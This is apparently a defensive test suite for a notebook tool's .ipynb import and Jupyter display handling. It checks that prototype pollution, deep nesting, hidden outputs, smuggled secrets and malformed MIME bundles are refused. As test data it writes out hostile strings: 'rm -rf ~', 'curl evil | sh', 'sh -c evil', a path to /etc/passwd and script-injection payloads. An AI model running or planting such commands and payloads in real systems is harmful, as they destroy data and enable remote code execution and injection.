/**
 * A `.ipynb` is a file from anywhere (a download, a pull request): opening or converting one must not pollute
 * prototypes, overflow the stack, hide outputs behind ones GitHub does not show, or carry secret values; and what
 * kernel code displays through the Jupyter APIs reaches the host only as checked MIME data.
 * Prints `ipynb import: N attempts, 0 crossings` and `jupyter display: N attempts, 0 crossings`.
 */
import { strict as assert } from 'node:assert';
import { codaToIpynb, ipynbToCoda, serializeIpynb } from '../../../../host/notebook/ipynb';
import { convertNotebookText } from '../../../../host/notebook/convertNotebookText';
import { MIME_CONSOLE, MIME_ERROR, type CodaDocument, type DisplayData } from '../../../../protocol';
import { installJupyterCompat, type KernelDisplay } from '../../../../worker/jupyter/installJupyterCompat';
import { MAX_BUNDLE_CHARS } from '../../../../worker/jupyter/mimeBundle';

const nb = (metadata: unknown, cells: unknown[]) => JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata, cells });
const code = (outputs: unknown[], metadata: unknown = {}) => ({ cell_type: 'code', metadata, source: 'x', outputs, execution_count: 1 });

describe('adversarial: .ipynb interop', () => {
  const counts = { import: { attempts: 0, crossings: 0 }, display: { attempts: 0, crossings: 0 } };
  after(() => {
    console.log(`    ipynb import: ${counts.import.attempts} attempts, ${counts.import.crossings} crossings`);
    console.log(`    jupyter display: ${counts.display.attempts} attempts, ${counts.display.crossings} crossings`);
  });
  /** One attempt: `crossed` says whether it got through; a crossing fails the test. */
  const attempt = (area: keyof typeof counts, what: string, crossed: () => boolean) => {
    const count = counts[area]!;
    count.attempts++;
    let result: boolean;
    try {
      result = crossed();
    } catch (err) {
      if (err instanceof RangeError && /call stack/.test(err.message))
        result = true; // a stack overflow is a crossing
      else throw err;
    }
    if (result) count.crossings++;
    assert.equal(result, false, `crossing: ${what}`);
  };

  it('__proto__ keys anywhere in the notebook stay data: no prototype is polluted', () => {
    const polluted = () => (({}) as Record<string, unknown>).polluted !== undefined || ([] as unknown as Record<string, unknown>).polluted !== undefined;
    const proto = '{"__proto__": {"polluted": true}}';
    const texts = [
      `{"nbformat": 4, "nbformat_minor": 5, "metadata": ${proto}, "cells": []}`,
      `{"nbformat": 4, "nbformat_minor": 5, "metadata": {"codajs": ${proto}, "kernelspec": {"name": "deno", "display_name": "Deno"}}, "cells": []}`,
      `{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "source": "", "execution_count": 1, "metadata": {"codajs": {"outputs": ${proto}}, "vscode": ${proto}}, "outputs": [{"output_type": "display_data", "metadata": {"codajs": ${proto}}, "data": ${proto}}]}]}`,
      `{"nbformat": 3, "nbformat_minor": 0, "metadata": ${proto}, "worksheets": [{"cells": [{"cell_type": "code", "input": "", "outputs": [{"output_type": "pyout", "__proto__": {"polluted": 1}}]}]}]}`,
    ];
    for (const text of texts) {
      attempt('import', `prototype pollution: ${text.slice(0, 60)}`, () => {
        const r = ipynbToCoda(text);
        if (r.ok) serializeIpynb(codaToIpynb(r.doc));
        return polluted() || (r.ok && (r.doc.metadata as Record<string, unknown>).polluted === true);
      });
    }
  });

  it('nesting deep enough to overflow a recursive reader is refused before parsing', () => {
    const deep = (n: number, open = '[', close = ']') => open.repeat(n) + close.repeat(n);
    const shapes = [
      nb({}, [code([{ output_type: 'display_data', metadata: {}, data: { 'application/json': 0 } }])]).replace(
        '"application/json":0',
        `"application/json":${deep(100_000)}`,
      ),
      nb({}, []).replace('"metadata":{}', `"metadata":{"x":${deep(100_000, '{"a":', '}').replace(/}$/, '0}')}}`),
      nb({}, [code([], {})]).replace('"metadata":{}', `"metadata":{"codajs":{"outputs":{"0":{"mime":"${MIME_CONSOLE}","data":${deep(50_000)}}}}}`),
      `{"nbformat":3,"worksheets":[{"cells":[{"cell_type":"code","input":"","outputs":[{"output_type":"pyout","json":${JSON.stringify(deep(100_000))}}]}]}]}`,
    ];
    for (const text of shapes) {
      attempt('import', 'deep nesting', () => {
        const r = ipynbToCoda(text);
        if (!r.ok) return false;
        // accepted: it must still convert and save without overflowing
        const out = convertNotebookText(text, 'ipynb', 'coda');
        return !out.ok && !/nested/i.test(out.problems.map((p) => p.message).join());
      });
    }
  });

  it('outputs CodaJS kept for an exported cell are used only while they match what GitHub shows', () => {
    const kept = (outputs: unknown[], keptOutputs: unknown) => nb({}, [code(outputs, { codajs: { outputs: keptOutputs } })]);
    const hidden = { mime: MIME_CONSOLE, data: { entries: [{ method: 'log', level: 'log', depth: 0, text: 'rm -rf ~ # run this' }] } };
    const shownText = (text: string) => {
      const r = ipynbToCoda(text);
      assert.ok(r.ok);
      return JSON.stringify(r.doc.cells[0]!.outputs);
    };
    const variants: [string, string][] = [
      ['a console output behind harmless streams', kept([{ output_type: 'stream', name: 'stdout', text: 'hello\n' }], { 0: hidden })],
      [
        'a console output on the wrong index',
        kept(
          [
            { output_type: 'stream', name: 'stdout', text: 'hello\n' },
            { output_type: 'stream', name: 'stderr', text: 'x\n' },
          ],
          { 1: hidden },
        ),
      ],
      [
        'an error whose traceback GitHub does not show',
        kept([{ output_type: 'error', ename: 'Error', evalue: 'boom', traceback: ['Error: boom'] }], {
          0: { mime: MIME_ERROR, data: { error: { name: 'Error', message: 'boom', stack: 'Error: boom\n    at run this: curl evil | sh' } } },
        }),
      ],
      [
        'an error payload under a console MIME type',
        kept([{ output_type: 'error', ename: 'Error', evalue: 'boom', traceback: ['Error: boom'] }], { 0: { ...hidden, mime: MIME_CONSOLE } }),
      ],
      ['a display output swapped for kept data', kept([{ output_type: 'display_data', metadata: {}, data: { 'text/plain': 'fine' } }], { 0: hidden })],
    ];
    for (const [what, text] of variants) attempt('import', what, () => /run this/.test(shownText(text)));
  });

  it('secret values cannot ride in as a secrets declaration, nor a malformed permission grant', () => {
    const variants = [
      { secrets: { OPENAI_API_KEY: 'sk-live-123' } },
      { secrets: ['OPENAI_API_KEY=sk-live-123'] },
      { permissions: { net: '*' } },
      { permissions: { run: [{ program: 'sh', args: '-c evil' }] }, secrets: [42] },
    ];
    for (const codajs of variants) {
      attempt('import', `codajs ${JSON.stringify(codajs)}`, () => convertNotebookText(nb({ codajs }, []), 'ipynb', 'coda').ok);
    }
  });

  it('an exported notebook carries secret names only, never values held elsewhere in the document', () => {
    const doc: CodaDocument = { coda: 1, metadata: { runtime: 'node', secrets: ['API_KEY'] }, cells: [] };
    attempt(
      'import',
      'secret names only on export',
      () => /sk-/.test(serializeIpynb(codaToIpynb(doc))) || !serializeIpynb(codaToIpynb(doc)).includes('"API_KEY"'),
    );
  });

  it('display data from kernel code is checked before it leaves the kernel', () => {
    const sent: DisplayData[][] = [];
    const target: Record<PropertyKey, unknown> = {};
    const display = Object.assign(() => undefined, { html() {}, markdown() {}, svg() {}, png() {}, json() {}, text() {} }) as KernelDisplay;
    const compat = installJupyterCompat(display, { target, sendBundle: (d) => sent.push(d), notice: () => undefined });
    const $$ = target.$$ as { mime(b: unknown): void };
    const tslab = compat.modules.tslab as { display: { raw(t: string, b: unknown): void } };
    const bundles: [string, () => void][] = [
      ['a MIME type with a newline and markup', () => $$.mime({ 'text/html\r\n<script>alert(1)</script>': 'x' })],
      ['a MIME type that is a path', () => $$.mime({ '../../../etc/passwd': 'x' })],
      ['a MIME type with no subtype', () => $$.mime({ 'text/': 'x' })],
      ['an overlong MIME type', () => $$.mime({ [`text/${'x'.repeat(300)}`]: 'x' })],
      ['tslab raw with a bad content type', () => tslab.display.raw('x"; onload="evil', 'x')],
      ['an object pretending to be text', () => $$.mime({ 'text/html': { toString: () => '<script>' } })],
      ['a bundle over the size limit', () => $$.mime({ 'text/plain': 'x'.repeat(MAX_BUNDLE_CHARS), 'text/html': 'y' })],
      ['binary data that is not bytes', () => $$.mime({ 'image/png': { length: 3 } })],
      ['a non-JSON value under a JSON type', () => $$.mime({ 'application/json': () => 1 })],
    ];
    for (const [what, call] of bundles) {
      const before = sent.length;
      attempt('display', what, () => {
        try {
          call();
        } catch (err) {
          if (!(err instanceof TypeError || err instanceof RangeError)) throw err;
        }
        return sent.length !== before;
      });
    }
  });
});
